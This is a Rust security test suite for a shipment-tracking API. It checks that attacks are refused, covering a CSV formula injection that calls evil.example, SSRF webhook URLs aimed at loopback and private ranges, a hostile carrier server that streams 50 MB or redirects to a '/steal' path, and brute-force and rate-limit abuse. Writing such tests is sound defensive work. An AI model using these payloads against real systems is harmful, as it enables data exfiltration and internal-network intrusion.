//! Hostile input, sent the way an attacker would with an ordinary merchant API key or as a
//! stranger on the internet: none of it stops a role, slows another tenant or leaks.

use chrono::Utc;
use serde_json::{Value, json};

use crate::fake_carriers::{self, CLIENT_ID, CLIENT_SECRET};
use crate::helpers::{TestApp, number, shipment_body};

/// The year 4.4 million, in seconds from now: far past what a clock can hold.
const ABSURD_RETRY_AFTER: u64 = 100_000_000_000_000;

#[tokio::test]
async fn attack_webhook_retry_after_does_not_kill_the_notifier() {
    let (url, receiver) = crate::webhooks::start_receiver();
    receiver.lock().unwrap().script = vec![(503, Some(ABSURD_RETRY_AFTER)); 10];
    let app = crate::webhooks::app(true).await;
    let (_, key) = app.create_merchant("Acme").await;
    app.subscribe_webhook(&key, &format!("{url}/hook"), &["shipment.delivered"])
        .await;
    // Every step of the journey runs the notifier; before the fix the first 503 killed it.
    let (_, sent) =
        crate::notify::deliver_on_time(&app, &key, &shipment_body(&number("OT")), true).await;
    assert!(sent > 0, "the customer's messages still went out");
    let (_, queued) = app
        .get_json(&key, "/api/v1/notifications?status=queued")
        .await;
    let hook = queued["notifications"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["channel"] == "webhook")
        .expect("the webhook waits for its retry");
    let next: chrono::DateTime<Utc> = hook["next_at"].as_str().unwrap().parse().unwrap();
    assert!(
        next <= Utc::now() + chrono::Duration::hours(25),
        "Retry-After is capped at a day: {next}"
    );
}

async fn put_account(app: &TestApp, key: &str, body: Value) -> (u16, Value) {
    let resp = app
        .http
        .put(app.url("/api/v1/carriers/ups"))
        .bearer_auth(key)
        .json(&body)
        .send()
        .await
        .unwrap();
    (
        resp.status().as_u16(),
        resp.json().await.unwrap_or(Value::Null),
    )
}

#[tokio::test]
async fn attack_carrier_rate_does_not_kill_the_poller() {
    let fake = fake_carriers::start().await;
    let app = crate::accounts::app(&fake).await;
    let (merchant, key) = app.create_merchant("Acme").await;
    let creds = json!({"client_id": CLIENT_ID, "client_secret": CLIENT_SECRET});
    for rate in [json!(1e-14), json!(0), json!(-1), json!(1e6)] {
        let (status, problem) = put_account(
            &app,
            &key,
            json!({"credentials": creds, "requests_per_second": rate}),
        )
        .await;
        assert_eq!(
            (status, problem["errors"][0]["field"].as_str()),
            (422, Some("requests_per_second")),
            "{rate}: {problem}"
        );
    }
    let (_, list) = app.get_json(&key, "/api/v1/carriers").await;
    assert_eq!(list["accounts"], json!([]), "nothing saved");

    // A rate stored before the bound existed (written straight into Redis) is not obeyed.
    let (status, _) = put_account(
        &app,
        &key,
        json!({"credentials": creds, "requests_per_second": 1}),
    )
    .await;
    assert_eq!(status, 200);
    let field = app
        .parts
        .store
        .keys()
        .accounts(&shipmate::domain::MerchantId::parse(&merchant).unwrap());
    let mut conn = app.parts.store.connection();
    let stored: String = redis::cmd("HGET")
        .arg(&field)
        .arg("ups")
        .query_async(&mut conn)
        .await
        .unwrap();
    let mut stored: Value = serde_json::from_str(&stored).unwrap();
    stored["requests_per_second"] = json!(1e-14);
    let () = redis::cmd("HSET")
        .arg(&field)
        .arg("ups")
        .arg(stored.to_string())
        .query_async(&mut conn)
        .await
        .unwrap();

    let numbers = ["1Z8V92A70367203024", "1Z5R89390357567127"];
    for n in numbers {
        fake.answer(n, 200, json!({"trackResponse": {"shipment": [{"package": [{"activity": [
            {"date": "20260210", "time": "101500", "gmtOffset": "-05:00", "status": {"type": "I", "code": "DP", "description": "Departed from Facility"}}]}]}]}}).to_string());
    }
    let mut body = shipment_body(numbers[0]);
    body["carrier"] = json!("ups");
    app.register_with(&key, &body).await;
    assert_eq!(app.poll_at(Utc::now()).await.claimed, 1);
    body["tracking_number"] = json!(numbers[1]);
    let second = app.register_with(&key, &body).await;
    // The second request meets the gate's pace: before the fix, a wait of 10^17 ms
    // overflowed the clock and the poller died.
    let now = Utc::now();
    let polled = app.poll_at(now).await;
    assert_eq!(polled.claimed, 1);
    let next: chrono::DateTime<Utc> = app.shipment(&key, &second).await["next_poll_at"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(next <= now + chrono::Duration::days(1), "{next}");
}

#[tokio::test]
async fn attack_outbox_page_is_off_by_default() {
    let app = crate::helpers::spawn_app_with(crate::helpers::Options {
        configure: Box::new(|c| c.notifier.channels = vec![shipmate::domain::Channel::Outbox]),
        ..Default::default()
    })
    .await;
    let (_, key) = app.create_merchant("Acme").await;
    crate::notify::deliver_on_time(&app, &key, &shipment_body(&number("OT")), true).await;
    assert!(
        std::fs::read_dir(&app.parts.config.notifier.outbox_dir)
            .unwrap()
            .count()
            > 0,
        "messages were written"
    );
    assert_eq!(
        app.page("/dev/outbox").await.0,
        404,
        "nobody on the internet reads them"
    );
}

async fn put_settings(app: &TestApp, key: &str, body: Value) -> (u16, Value) {
    let resp = app
        .http
        .put(app.url("/api/v1/notification-settings"))
        .bearer_auth(key)
        .json(&body)
        .send()
        .await
        .unwrap();
    (
        resp.status().as_u16(),
        resp.json().await.unwrap_or(Value::Null),
    )
}

#[tokio::test]
async fn attack_ten_thousand_feedback_delays_are_refused() {
    let app = crate::helpers::spawn_app().await;
    let (_, key) = app.create_merchant("Acme").await;
    let flood = vec!["1h"; 10_000];
    let (status, problem) = put_settings(&app, &key, json!({"feedback_after": flood})).await;
    assert_eq!(
        (status, problem["errors"][0]["field"].as_str()),
        (422, Some("feedback_after")),
        "{problem}"
    );
    let (status, problem) = put_settings(&app, &key, json!({"feedback_after": ["1m"]})).await;
    assert_eq!(
        (status, problem["errors"][0]["field"].as_str()),
        (422, Some("feedback_after[0]")),
        "at least an hour: {problem}"
    );
    let (status, problem) = put_settings(&app, &key, json!({"daily_cap": 1_000_000})).await;
    assert_eq!(
        (status, problem["errors"][0]["field"].as_str()),
        (422, Some("daily_cap"))
    );
    let (_, saved) = app.get_json(&key, "/api/v1/notification-settings").await;
    assert!(
        saved.get("feedback_after").is_none(),
        "nothing saved: {saved}"
    );
    let (status, _) = put_settings(&app, &key, json!({"feedback_after": ["2h", "1d", "3d"]})).await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn attack_csv_injection_is_neutralised() {
    let app = crate::helpers::spawn_app().await;
    let (_, key) = app.create_merchant("Acme").await;
    let s = app.register(&key, &number("OT")).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let sent = crate::feedback::send_form(&s, &[("rating", "1"), ("comment", formula)]).await;
    assert_eq!(sent.status(), 200);
    let csv = app
        .http
        .get(app.url("/api/v1/feedback.csv"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = csv.lines().nth(1).unwrap();
    let comment = row.split(",1,,").nth(1).unwrap();
    assert!(
        comment.starts_with("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"),
        "a spreadsheet shows it as text: {row}"
    );
}

#[tokio::test]
async fn attack_ipv4_compatible_ipv6_webhook_is_refused() {
    let app = crate::webhooks::app(false).await;
    let (_, key) = app.create_merchant("Acme").await;
    for url in [
        "http://[::127.0.0.1]/hook",
        "http://[::ffff:7f00:1]/hook",
        "http://[64:ff9b::7f00:1]/hook",
        "http://[2002:7f00:1::1]/hook",
        "http://[fec0::1]/hook",
        "http://100.64.0.1/hook",
        "http://198.18.0.1/hook",
        "http://192.0.0.1/hook",
        "http://240.0.0.1/hook",
    ] {
        let resp = app
            .http
            .post(app.url("/api/v1/webhooks"))
            .bearer_auth(&key)
            .json(&json!({"url": url}))
            .send()
            .await
            .unwrap();
        let status = resp.status().as_u16();
        let problem: Value = resp.json().await.unwrap();
        assert_eq!(
            (status, problem["errors"][0]["field"].as_str()),
            (422, Some("url")),
            "{url}: {problem}"
        );
    }
    let long = format!("https://hooks.example/{}", "a".repeat(3000));
    let resp = app
        .http
        .post(app.url("/api/v1/webhooks"))
        .bearer_auth(&key)
        .json(&json!({"url": long}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 422, "an endless URL is not stored");
    let (_, list) = app.get_json(&key, "/api/v1/webhooks").await;
    assert_eq!(list["webhooks"], json!([]));
}

/// A carrier endpoint an attacker controls: `POST /v1/track` answers what `answer` builds;
/// counts the bytes it managed to hand over and the requests that reached `/steal`.
struct Hostile {
    url: String,
    streamed: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    stolen: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

fn hostile_carrier(redirect_to: Option<String>) -> Hostile {
    use actix_web::{App, HttpResponse, HttpServer, web};
    use std::sync::atomic::{AtomicUsize, Ordering};
    let streamed = std::sync::Arc::new(AtomicUsize::new(0));
    let stolen = std::sync::Arc::new(AtomicUsize::new(0));
    let (s, t) = (streamed.clone(), stolen.clone());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let server = HttpServer::new(move || {
        let (s, t, to) = (s.clone(), t.clone(), redirect_to.clone());
        App::new()
            .route(
                "/steal",
                web::to(move || {
                    t.fetch_add(1, Ordering::SeqCst);
                    async { HttpResponse::Ok().json(json!({"results": []})) }
                }),
            )
            .default_service(web::to(move || {
                let (s, to) = (s.clone(), to.clone());
                async move {
                    if let Some(to) = to {
                        return HttpResponse::Found()
                            .insert_header(("Location", format!("{to}/steal")))
                            .finish();
                    }
                    // 50 MB of a never-ending JSON string, without a Content-Length.
                    let chunk = web::Bytes::from(vec![b'x'; 64 * 1024]);
                    let body = futures_util::stream::iter((0..800).map(move |i| {
                        s.fetch_add(chunk.len(), Ordering::SeqCst);
                        let c = if i == 0 {
                            web::Bytes::from_static(b"{\"results\": \"")
                        } else {
                            chunk.clone()
                        };
                        Ok::<_, std::io::Error>(c)
                    }));
                    HttpResponse::Ok()
                        .content_type("application/json")
                        .streaming(body)
                }
            }))
    })
    .workers(1)
    .disable_signals()
    .listen(listener)
    .unwrap()
    .run();
    tokio::spawn(server);
    Hostile {
        url,
        streamed,
        stolen,
    }
}

async fn app_on(carrier_url: String) -> TestApp {
    crate::helpers::spawn_app_with(crate::helpers::Options {
        configure: Box::new(move |c| c.carriers["sandbox"].base_url = carrier_url),
        ..Default::default()
    })
    .await
}

#[tokio::test]
async fn attack_fifty_megabyte_carrier_body_is_refused() {
    use std::sync::atomic::Ordering;
    let hostile = hostile_carrier(None);
    let app = app_on(hostile.url.clone()).await;
    let (_, key) = app.create_merchant("Acme").await;
    let s = app.register(&key, &number("OT")).await;
    let polled = app.poll_at(Utc::now()).await;
    assert_eq!((polled.claimed, polled.failed), (1, 1));
    let handed_over = hostile.streamed.load(Ordering::SeqCst);
    let cap = app.parts.config.outbound.max_response_bytes;
    assert!(
        handed_over < cap + 16 * 1024 * 1024,
        "the poller stopped reading near its cap of {cap} bytes, not at 50 MB: {handed_over}"
    );
    assert_eq!(app.shipment(&key, &s).await["status"], "pending");
}

#[tokio::test]
async fn attack_redirect_to_another_host_is_not_followed() {
    use std::sync::atomic::Ordering;
    let elsewhere = hostile_carrier(None);
    let redirector = hostile_carrier(Some(elsewhere.url.clone()));
    let app = app_on(redirector.url.clone()).await;
    let (_, key) = app.create_merchant("Acme").await;
    app.register(&key, &number("OT")).await;
    let polled = app.poll_at(Utc::now()).await;
    assert_eq!((polled.claimed, polled.failed), (1, 1));
    assert_eq!(
        elsewhere.stolen.load(Ordering::SeqCst),
        0,
        "nothing reached the other host"
    );
}

/// Waits for `done` to hold, failing after `within`.
async fn wait_for(what: &str, within: std::time::Duration, mut done: impl FnMut() -> bool) {
    let until = std::time::Instant::now() + within;
    while !done() {
        assert!(
            std::time::Instant::now() < until,
            "{what}: not within {within:?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn attack_slow_merchant_does_not_delay_another() {
    use std::time::Duration;
    let (hook, deliveries) = crate::sinks::webhook_counter(Duration::from_secs(10));
    let mut o = crate::helpers::Options::default();
    o.sim.speed = 1.0;
    o.configure = Box::new(|c| {
        c.notifier.channels = vec![shipmate::domain::Channel::Outbox];
        c.notifier.webhooks_allow_private = true;
        c.notifier.reclaim_after = Duration::ZERO;
        c.notifier.lease = Duration::from_secs(30);
        c.notifier.webhook_timeout = Duration::from_secs(12);
    });
    let app = crate::helpers::spawn_app_with(o).await;
    let (_, slow) = app.create_merchant("Slow Hooks").await;
    for _ in 0..20 {
        app.subscribe_webhook(&slow, &hook, &["shipment.delivered"])
            .await;
    }
    // The slow merchant's parcel is delivered: 20 webhooks of 10 s each are due.
    let notifier = app.parts.notifier.clone();
    notifier.prepare().await.unwrap();
    crate::notify::deliver_on_time(&app, &slow, &shipment_body(&number("OT")), false).await;
    notifier.consume_once(Utc::now()).await.unwrap();
    let cancel = tokio_util::sync::CancellationToken::new();
    tokio::spawn(notifier.clone().run(cancel.clone()));
    let d = deliveries.clone();
    wait_for(
        "the slow endpoints are busy",
        Duration::from_secs(5),
        || !d.lock().unwrap().is_empty(),
    )
    .await;

    // Meanwhile another merchant's parcel arrives: its e-mail goes out within seconds.
    let (_, other) = app.create_merchant("Other Shop").await;
    let (s, _) =
        crate::notify::deliver_on_time(&app, &other, &shipment_body(&number("OT")), false).await;
    let token = s["tracking_url"]
        .as_str()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_owned();
    let delivered_mail = || {
        crate::notify::messages(&app)
            .iter()
            .any(|(_, m)| m.contains(&token) && m.contains("has been delivered"))
    };
    wait_for(
        "the other merchant's e-mail",
        Duration::from_secs(5),
        delivered_mail,
    )
    .await;

    // Every slow webhook arrives, each exactly once, though they took longer than a lease.
    let d = deliveries.clone();
    wait_for("all 20 webhooks", Duration::from_secs(120), || {
        d.lock().unwrap().len() >= 20
    })
    .await;
    // Settled: none of the slow merchant's webhooks is queued (or being sent) any more.
    let until = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let (_, queued) = app
            .get_json(&slow, "/api/v1/notifications?status=queued")
            .await;
        let hooks = queued["notifications"].as_array().unwrap().iter();
        if hooks.filter(|n| n["channel"] == "webhook").count() == 0 {
            break;
        }
        assert!(std::time::Instant::now() < until, "still queued: {queued}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    cancel.cancel();
    let counts = deliveries.lock().unwrap().clone();
    assert_eq!(counts.len(), 20);
    assert!(counts.values().all(|n| *n == 1), "sent twice: {counts:?}");
}

#[tokio::test]
async fn attack_api_calls_are_limited_per_key() {
    let app = crate::helpers::spawn_app_with(crate::helpers::Options {
        configure: Box::new(|c| {
            c.limits.api_per_minute = 5;
            c.limits.api_expensive_per_minute = 2;
        }),
        ..Default::default()
    })
    .await;
    let (_, greedy) = app.create_merchant("Greedy").await;
    let (_, other) = app.create_merchant("Other").await;
    let mut codes = vec![];
    for _ in 0..6 {
        let resp = app
            .http
            .get(app.url("/api/v1/shipments"))
            .bearer_auth(&greedy)
            .send()
            .await
            .unwrap();
        codes.push(resp.status().as_u16());
        if resp.status() == 429 {
            let h = resp.headers();
            let retry: u64 = h["retry-after"].to_str().unwrap().parse().unwrap();
            assert!((1..=60).contains(&retry), "{retry}");
            assert_eq!(h["ratelimit-limit"], "5");
            assert_eq!(h["ratelimit-remaining"], "0");
            assert_eq!(resp.headers()["content-type"], "application/problem+json");
        } else {
            assert!(resp.headers().contains_key("ratelimit-remaining"));
        }
    }
    assert_eq!(codes, [200, 200, 200, 200, 200, 429]);
    let (status, _) = app.get_json(&other, "/api/v1/shipments").await;
    assert_eq!(status, 200, "another merchant's key has its own budget");
    let mut expensive = vec![];
    for _ in 0..3 {
        expensive.push(app.get_json(&other, "/api/v1/feedback/summary").await.0);
    }
    assert_eq!(
        expensive,
        [200, 200, 429],
        "expensive calls have a smaller budget"
    );
}

#[tokio::test]
async fn attack_unknown_links_from_one_client_do_not_lock_out_others() {
    let app = crate::helpers::spawn_app_with(crate::helpers::Options {
        configure: Box::new(|c| {
            c.limits.not_found_per_minute = 5;
            c.http.trusted_proxies = vec![shipmate::domain::Cidr::parse("127.0.0.0/8").unwrap()];
        }),
        ..Default::default()
    })
    .await;
    let (_, key) = app.create_merchant("Acme").await;
    let s = app.register(&key, &number("OT")).await;
    let page = format!(
        "/t/{}",
        s["tracking_url"]
            .as_str()
            .unwrap()
            .rsplit('/')
            .next()
            .unwrap()
    );
    // Behind the proxy (loopback here), each client is who X-Forwarded-For says.
    let get = |path: String, client: &'static str| {
        app.http
            .get(app.url(&path))
            .header("X-Forwarded-For", format!("{client}, 127.0.0.9"))
            .send()
    };
    let mut codes = vec![];
    for i in 0..7 {
        let guess = format!("/t/{}", "A".repeat(21) + &i.to_string());
        codes.push(get(guess, "198.51.100.1").await.unwrap().status().as_u16());
    }
    assert_eq!(codes, [404, 404, 404, 404, 404, 429, 429]);
    let blocked = get(page.clone(), "198.51.100.1").await.unwrap();
    assert_eq!(blocked.status(), 429, "the guesser waits");
    assert!(blocked.headers().contains_key("retry-after"));
    // The same /64 is the same client; another address is not.
    assert_eq!(
        get(page.clone(), "198.51.100.2").await.unwrap().status(),
        200
    );
    for i in 0..6 {
        let guess = format!("/p/{}", "B".repeat(21) + &i.to_string());
        get(guess, "2001:db8:1:2::1").await.unwrap();
    }
    assert_eq!(
        get(page.clone(), "2001:db8:1:2::ffff")
            .await
            .unwrap()
            .status(),
        429
    );
    assert_eq!(get(page, "2001:db8:1:3::1").await.unwrap().status(), 200);
}

#[tokio::test]
async fn attack_lookup_across_merchants_finds_nothing() {
    let app = crate::helpers::spawn_app_with(crate::helpers::Options {
        configure: Box::new(|c| c.limits.lookups_per_order_per_hour = 3),
        ..Default::default()
    })
    .await;
    let (acme, key) = app.create_merchant("Acme").await;
    let (other, _) = app.create_merchant("Other Shop").await;
    app.register(&key, &number("OT")).await;
    let client = || {
        reqwest::Client::builder()
            .cookie_store(true)
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap()
    };
    let lookup = crate::pages::lookup;
    let found = lookup(&app, &client(), (&acme, "1001", "01310-100")).await;
    assert_eq!(found.status(), 303, "the shop's own order, by postcode");
    let elsewhere = lookup(&app, &client(), (&other, "1001", "01310-100")).await;
    assert_eq!(
        elsewhere.status(),
        404,
        "another shop's lookup does not search Acme's orders"
    );
    assert_eq!(app.page("/track/mer_nope").await.0, 404);
    let (status, page) = app.page("/track").await;
    assert_eq!(status, 200);
    assert!(!page.contains("<form"), "no shop, no search: {page}");
    // Guessing one order's postcode: each order number has a small budget of its own.
    let mut codes = vec![];
    for guess in ["00000-001", "00000-002", "00000-003", "01310-100"] {
        codes.push(
            lookup(&app, &client(), (&acme, "1001", guess))
                .await
                .status()
                .as_u16(),
        );
    }
    assert_eq!(codes, [404, 404, 429, 429]);
}

#[test]
fn attack_short_admin_token_stops_the_boot() {
    let err = shipmate::config::Config::from_layers(
        &[],
        [("SHIPMATE__ADMIN__TOKEN".to_owned(), "hunter2".to_owned())].into_iter(),
    )
    .unwrap_err()
    .to_string();
    assert!(err.contains("admin.token"), "{err}");
}

#[tokio::test]
async fn attack_carrier_tests_go_through_the_accounts_gate_and_reuse_its_token() {
    let fake = fake_carriers::start().await;
    let app = crate::accounts::app(&fake).await;
    let (_, key) = app.create_merchant("Acme").await;
    let creds = json!({"client_id": CLIENT_ID, "client_secret": CLIENT_SECRET});
    let (status, _) = put_account(
        &app,
        &key,
        json!({"credentials": creds, "requests_per_second": 0.01}),
    )
    .await;
    assert_eq!(status, 200);
    let test = || {
        app.http
            .post(app.url("/api/v1/carriers/ups/test"))
            .bearer_auth(&key)
            .send()
    };
    assert_eq!(test().await.unwrap().status(), 200);
    let second = test().await.unwrap();
    assert_eq!(
        second.status(),
        429,
        "one request per 100 s for this account"
    );
    assert!(second.headers().contains_key("retry-after"));
    assert_eq!(
        fake.ledger.lock().unwrap().issued.len(),
        1,
        "one OAuth token, not one per test"
    );
}
